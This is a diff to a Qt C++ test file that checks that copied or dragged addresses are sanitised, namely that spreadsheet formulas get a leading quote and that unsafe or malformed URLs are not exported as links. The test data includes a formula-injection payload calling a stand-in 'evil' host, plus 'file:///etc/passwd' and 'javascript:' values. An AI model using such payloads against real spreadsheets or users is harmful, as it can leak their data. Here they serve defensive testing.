@@ -5,6 +5,7 @@
 
 #include "clicks.h"
 #include "filled_lists.h"
+#include "platform/text_border.h"
 
 using namespace Qt::Literals::StringLiterals;
 using namespace quarrynet;
@@ -250,6 +251,25 @@ private slots:
         QCOMPARE(clipboard()->text(), u"http://host/a%20b%22c\njavascript:x  y\nhttp://h st/"_s);
     }
 
+    // An address that is not opened may be any text, which a spreadsheet would run as a formula.
+    void formulasLeaveAsTexts()
+    {
+        for (const int tag : {1, 4, 5}) {
+            const TabControls& tab = tabOf(tag);
+            window_->chooseTab(tag);
+            ListView* list = listOf(*window_, tab);
+            const std::string formula = R"(=HYPERLINK("http://evil/"&A1))";
+            list->setRows({{formula, formula, formula, formula, formula, formula}, {}});
+            const QString expected = u'\'' + QString::fromStdString(formula);
+            list->setCurrentIndex(list->model()->index(0, 0));
+            list->copyAddresses();
+            QCOMPARE(clipboard()->text(), expected);
+            const std::unique_ptr<QMimeData> data(list->model()->mimeData({list->model()->index(0, 0)}));
+            QCOMPARE(data->text(), expected);
+            QVERIFY(!data->hasUrls());
+        }
+    }
+
     void copyRowsCopiesTextAndATable_data() { addListRows(); }
     void copyRowsCopiesTextAndATable()
     {
@@ -327,11 +347,16 @@ private slots:
     void rowsThatMayNotBeOpenedAreNoLinksInADrag()
     {
         ListView* list = listOf(*window_, tabOf(1));
-        list->setRows({{"file:///etc/passwd", ""}, {"javascript:x", ""}});
-        const QModelIndexList indexes{list->model()->index(0, 0), list->model()->index(1, 0)};
+        // The last ones used to be asked for as they are shown: as one line, and cut.
+        const std::string tooLong = "http://host/" + std::string(65'536, 'x');
+        list->setRows({{"file:///etc/passwd"}, {"javascript:x"}, {"http://host/a\nb"}, {tooLong}});
+        QModelIndexList indexes;
+        for (int row = 0; row < list->model()->rowCount(); ++row)
+            indexes.append(list->model()->index(row, 0));
         const std::unique_ptr<QMimeData> data(list->model()->mimeData(indexes));
-        QVERIFY(!data->hasUrls());
-        QCOMPARE(data->text(), u"file:///etc/passwd\njavascript:x"_s);
+        QVERIFY(!data->hasFormat(u"text/uri-list"_s));
+        QCOMPARE(data->text(),
+                 u"file:///etc/passwd\njavascript:x\nhttp://host/a b\n"_s + toLine(std::string_view(tooLong)));
     }
 
     // Where the mouse goes down decides: on a selected row it drags, on another one it selects as it always did.
